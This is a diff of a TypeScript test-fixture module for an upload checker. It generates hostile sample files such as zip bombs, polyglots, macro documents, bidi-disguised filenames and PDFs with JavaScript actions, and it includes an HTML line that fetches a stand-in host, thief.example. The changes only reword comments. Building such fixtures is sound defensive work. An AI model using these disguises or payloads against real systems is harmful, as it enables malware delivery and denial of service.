@@ -11,7 +11,7 @@ const megabyte = 1024 * 1024;
 const markup = '<!DOCTYPE html><html><script>fetch("https://thief.example")</script></html>';
 const program = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(500, 1)]);
 
-/** More than 500 files that attack whoever stores or opens them; those of the short suite are among them. */
+/** Returns more than 500 files that attack programs which store or open them, including those of the short suite. */
 export async function moreHostileFiles(): Promise<readonly TestFile[]> {
   const honest = await honestFiles();
   return [
@@ -39,10 +39,11 @@ async function honestFiles(): Promise<readonly TestFile[]> {
   return files.map(([name, content]) => ({ what: name, name, content }));
 }
 
-/** The beginning of a file, at every tenth and near its end. */
+/** Returns a file cut at every tenth of its length and near both ends. */
 function truncated({ name, content }: TestFile): readonly TestFile[] {
   const tenths = Array.from({ length: 10 }, (_, tenth) => Math.floor((content.length * tenth) / 10));
-  // The last sector of an old document may be shorter than a sector; a PDF ends with a line end.
+  // The last sector of an old Word document can be shorter than a sector, and a PDF ends with a line break. Cuts within
+  // these are harmless.
   const less = name.endsWith('.doc') ? [600, 1100, 4096] : [3, 7, 20];
   const lengths = [...tenths, 1, 8, ...less.map((bytes) => content.length - bytes)];
   return lengths.map((length) => ({
@@ -52,12 +53,12 @@ function truncated({ name, content }: TestFile): readonly TestFile[] {
   }));
 }
 
-/** A byte more than may be uploaded. */
+/** Returns a file that exceeds the maximum size by one byte. */
 function overgrown({ name, content }: TestFile): readonly TestFile[] {
   return [{ what: `more than 25 MB as ${name}`, name, content: Buffer.concat([content], 25 * megabyte + 1) }];
 }
 
-/** Names by which a file is taken for another one, with content that would be accepted. */
+/** Returns files with valid content and names that can be mistaken for those of other types. */
 function disguised({ name, content }: TestFile): readonly TestFile[] {
   const marks = ['\u202e', '\u202d', '\u2066', '\u2067', '\u200f', '\u061c', '\u200b', '\ufeff', '\0', '\u00ad'];
   const endings = ['exe', 'js', 'html', 'svg', 'docm', 'lnk', 'pdf.exe'];
@@ -82,7 +83,7 @@ function disguised({ name, content }: TestFile): readonly TestFile[] {
   return names.map((disguise) => ({ what: `the name ${JSON.stringify(disguise)}`, name: disguise, content }));
 }
 
-/** Files that are two things at once. */
+/** Returns files that are valid in two formats. */
 function polyglots(honest: readonly TestFile[]): readonly TestFile[] {
   const [pdf, png, jpg] = ['form.pdf', 'form.png', 'form.jpg'].map(
     (wanted) => honest.find(({ name }) => name === wanted)?.content ?? Buffer.alloc(0),
@@ -125,7 +126,7 @@ function polyglots(honest: readonly TestFile[]): readonly TestFile[] {
   return [...behind, ...before, ...inside, ...swapped];
 }
 
-/** Macros and controls under the names that Office gives them, and under others. */
+/** Returns documents with macros and controls, under the names that Office uses and under others. */
 function macros(): readonly TestFile[] {
   const names = [
     ...['word/vbaProject.bin', 'word/VBAPROJECT.BIN', 'vbaProject.bin', 'word/vbaData.xml', 'customXml/vbaProject.bin'],
@@ -148,7 +149,7 @@ function macros(): readonly TestFile[] {
   return [...docx, ...doc];
 }
 
-/** Packages that unpack to far more than they are. */
+/** Returns archives that decompress to far more than their size. */
 function bombs(): readonly TestFile[] {
   const zeros = Buffer.alloc(40 * megabyte);
   const part = (at: number, more: Partial<ZipPart> = {}): ZipPart => ({
@@ -172,7 +173,7 @@ function bombs(): readonly TestFile[] {
   }));
 }
 
-/** Actions of a PDF, in the open, by the codes of their letters, and in packed objects. */
+/** Returns PDF files with actions: as plain text, with escaped letters, and in compressed objects. */
 function hiddenScripts(pdf: Buffer): readonly TestFile[] {
   const actions = [
     '/S /JavaScript /JS (app.alert(1))',
